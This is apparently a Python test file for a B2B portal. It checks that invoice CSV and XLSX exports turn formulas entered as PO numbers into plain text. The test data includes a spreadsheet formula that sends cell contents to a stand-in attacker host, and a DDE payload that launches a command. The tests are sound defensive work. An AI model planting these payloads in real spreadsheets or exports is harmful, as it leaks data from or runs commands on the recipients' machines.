"""A formula typed by a customer (a PO number at checkout) never reaches an accountant's Excel as
a formula: the invoices' CSV and XLSX carry it as text."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import httpx
from openpyxl import load_workbook

from portal.accounts.roles import Role
from portal.ordering.tables import Order
from portal.web.exports import Sheet, as_csv, as_xlsx, neutralised
from tests.factories import csrf_token, log_in, make_company, make_person, make_priced_product
from tests.finance.documents import make_invoice

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A2,"Zobacz")'


async def _invoice_of_an_order_with_a_formula_po(client: httpx.AsyncClient) -> None:
    """The attack as it was done: a buyer types the formula as the PO number at checkout; the
    ERP issues the order's invoice with that PO; finance exports the invoices."""
    company = await make_company()
    buyer = await make_person(company, Role.BUYER, Role.FINANCE)
    await log_in(client, buyer.email)
    product = await make_priced_product("10.00", sku=f"FML-{buyer.user_id}")
    token = csrf_token((await client.get("/")).text)
    await client.post("/cart/lines", data={"product_id": product, "quantity": "2", "_csrf_token": token})
    page = (await client.get("/checkout")).text
    key = re.search(r'name="submission_key" value="([^"]+)"', page)
    address = re.search(r'name="delivery_address_id" value="(\d+)"', page)
    assert key and address
    form = {
        "_csrf_token": csrf_token(page),
        "submission_key": key.group(1),
        "delivery_address_id": address.group(1),
        "po_number": ATTACK,
    }
    assert (await client.post("/checkout", data=form)).status_code == 303
    order = await Order.select(Order.id, Order.po_number).first()
    assert order is not None and order["po_number"] == ATTACK
    await make_invoice(company, "-24.60", number="@SUM(1+1)", po_number=order["po_number"], order_id=order["id"])


async def test_a_formula_typed_as_po_number_is_text_in_the_csv_export(client: httpx.AsyncClient) -> None:
    await _invoice_of_an_order_with_a_formula_po(client)

    response = await client.get("/invoices/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["PO"] == "'" + ATTACK
    assert record["Number"] == "'@SUM(1+1)"
    # A credit note's negative amount is the portal's number, not text: it keeps its minus.
    assert Decimal(record["Gross"].replace(",", ".")) == Decimal("-24.60")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


async def test_a_formula_typed_as_po_number_is_a_text_cell_in_the_xlsx_export(client: httpx.AsyncClient) -> None:
    await _invoice_of_an_order_with_a_formula_po(client)

    response = await client.get("/invoices/export.xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    record = dict(zip(header, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
    assert record["PO"] == "'" + ATTACK and record["Number"] == "'@SUM(1+1)"
    assert Decimal(str(record["Gross"])) == Decimal("-24.60")


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    for text in ("=1+1", "+48 600", "-2+3", "@A1", "\tx", "\rx"):
        assert neutralised(text) == "'" + text
    assert neutralised("PO/2026/77") == "PO/2026/77"
    rows = [["=cmd|' /C calc'!A0", Decimal("-1.50"), -3]]
    assert as_csv(["a", "b", "c"], rows).decode("utf-8-sig").splitlines()[1] == "'=cmd|' /C calc'!A0;-1,50;-3"
    book = load_workbook(io.BytesIO(as_xlsx(Sheet("t", ["a", "b", "c"], rows))))
    sheet = book.active
    assert sheet is not None
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "n"]
